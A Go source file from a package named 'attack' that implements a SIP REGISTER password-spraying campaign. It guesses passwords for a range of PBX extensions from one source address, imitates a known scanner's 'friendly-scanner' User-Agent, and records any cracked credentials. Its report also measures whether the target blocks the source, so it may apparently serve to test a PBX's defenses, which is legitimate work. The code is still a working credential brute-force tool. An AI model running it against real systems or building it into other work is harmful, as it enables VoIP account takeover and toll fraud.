package attack

import (
	"context"
	"errors"
	"net/netip"
	"time"
)

// RegisterBruteForceConfig configures RegisterBruteForce.
type RegisterBruteForceConfig struct {
	// Target is where every request goes (required).
	Target netip.AddrPort
	// Local is the one source address of the whole campaign. With port 0
	// each extension is guessed from a new port of that address, as a
	// cracker opening a socket per run does (behind a NAT: the same
	// public address).
	Local netip.AddrPort
	// Domain is the host part of the URIs; default the target address.
	Domain string
	// Extensions are guessed in turn (required), each with Passwords.
	Extensions []string
	// Passwords are tried against each extension in order (required).
	Passwords []string
	// PerExtension bounds the guesses of one extension before the next
	// one; default (and at most) len(Passwords).
	PerExtension int
	// UserAgent is the User-Agent header; default "friendly-scanner".
	UserAgent string
	// Timeout is how long one request waits for its final response;
	// default 1s.
	Timeout time.Duration
	// MaxTimeouts: an extension is given up after that many unanswered
	// requests in a row; default 2.
	MaxTimeouts int
	// Duration bounds the whole campaign; default 60s.
	Duration time.Duration
}

// RegisterBruteForceReport is the outcome of a RegisterBruteForce.
type RegisterBruteForceReport struct {
	// Report sums the runs of every extension (Stop: why the campaign
	// ended).
	Report
	// Guesses counts the REGISTERs sent with credentials (the passwords
	// tried), Refused those the target answered and turned down (the
	// failed challenges it saw), Challenges the 401/407 challenges
	// received.
	Guesses, Refused, Challenges int
	// Found maps each extension whose password was found to it.
	Found map[string]string
	// Silenced lists the extensions whose guessing ended because the
	// target stopped answering (the extension locked, or the source
	// blocked).
	Silenced []string
	// Blocked: the target did not answer even the first REGISTER of an
	// extension (no credentials yet): the source is cut off. The campaign
	// ends there; BlockedAfter is Refused at that point: the failed
	// guesses it took.
	Blocked      bool
	BlockedAfter int
	// Extensions holds the report of each extension tried, in order.
	Extensions []BruteForceReport
}

// RegisterBruteForce is a password campaign over several extensions of
// one registrar from one source address, the way a SIP cracker sprays a
// PBX's extension range: for each extension in turn, DigestBruteForce
// with the password list (at most PerExtension guesses). It moves on when
// an extension's list is done or the target goes silent for it, and stops
// when a new extension's first REGISTER is not answered at all (Blocked),
// when the extensions are done (StopCount), after Duration, or when ctx
// ends. The error is non-nil only when the campaign could not start.
func RegisterBruteForce(ctx context.Context, cfg RegisterBruteForceConfig) (RegisterBruteForceReport, error) {
	rep := RegisterBruteForceReport{Found: map[string]string{}}
	rep.Responses = map[int]int{}
	if len(cfg.Extensions) == 0 || len(cfg.Passwords) == 0 {
		return rep, errors.New("attack: RegisterBruteForce needs Extensions and Passwords")
	}
	if cfg.PerExtension <= 0 || cfg.PerExtension > len(cfg.Passwords) {
		cfg.PerExtension = len(cfg.Passwords)
	}
	if cfg.MaxTimeouts <= 0 {
		cfg.MaxTimeouts = 2
	}
	if cfg.Duration <= 0 {
		cfg.Duration = time.Minute
	}
	start := time.Now()
	end := deadlineOf(ctx, start, cfg.Duration)
	rep.Stop = StopCount
	for _, ext := range cfg.Extensions {
		left := time.Until(end)
		if left <= 0 {
			rep.Stop = StopDuration
			break
		}
		r, err := DigestBruteForce(ctx, DigestBruteForceConfig{
			Target: cfg.Target, Local: cfg.Local, Domain: cfg.Domain, Extension: ext,
			Passwords: cfg.Passwords[:cfg.PerExtension], UserAgent: cfg.UserAgent,
			Timeout: cfg.Timeout, MaxTimeouts: cfg.MaxTimeouts, Duration: left,
			MaxAttempts: cfg.PerExtension,
		})
		if err != nil {
			if len(rep.Extensions) == 0 {
				return rep, err
			}
			sendErr(&rep.Report, err)
			break
		}
		rep.Extensions = append(rep.Extensions, r)
		rep.add(r)
		if r.Found {
			rep.Found[ext] = r.Password
		}
		switch r.Stop {
		case StopUnanswered:
			if r.Challenges == 0 {
				rep.Blocked, rep.BlockedAfter = true, rep.Refused
			} else {
				rep.Silenced = append(rep.Silenced, ext)
			}
		case StopCanceled, StopDuration:
			rep.Stop = r.Stop
		}
		if rep.Blocked || rep.Stop != StopCount {
			break
		}
	}
	if rep.Blocked {
		rep.Stop = StopUnanswered
	}
	rep.Elapsed = time.Since(start)
	return rep, nil
}

// add sums an extension's run into the campaign's report.
func (rep *RegisterBruteForceReport) add(r BruteForceReport) {
	rep.Guesses += r.Attempts
	rep.Refused += r.Refused
	rep.Challenges += r.Challenges
	rep.Sent += r.Sent
	rep.Received += r.Received
	rep.Unparsed += r.Unparsed
	rep.Timeouts += r.Timeouts
	rep.Errors += r.Errors
	if rep.FirstError == nil {
		rep.FirstError = r.FirstError
	}
	for code, n := range r.Responses {
		rep.Responses[code] += n
	}
	rep.SendElapsed += r.SendElapsed
}
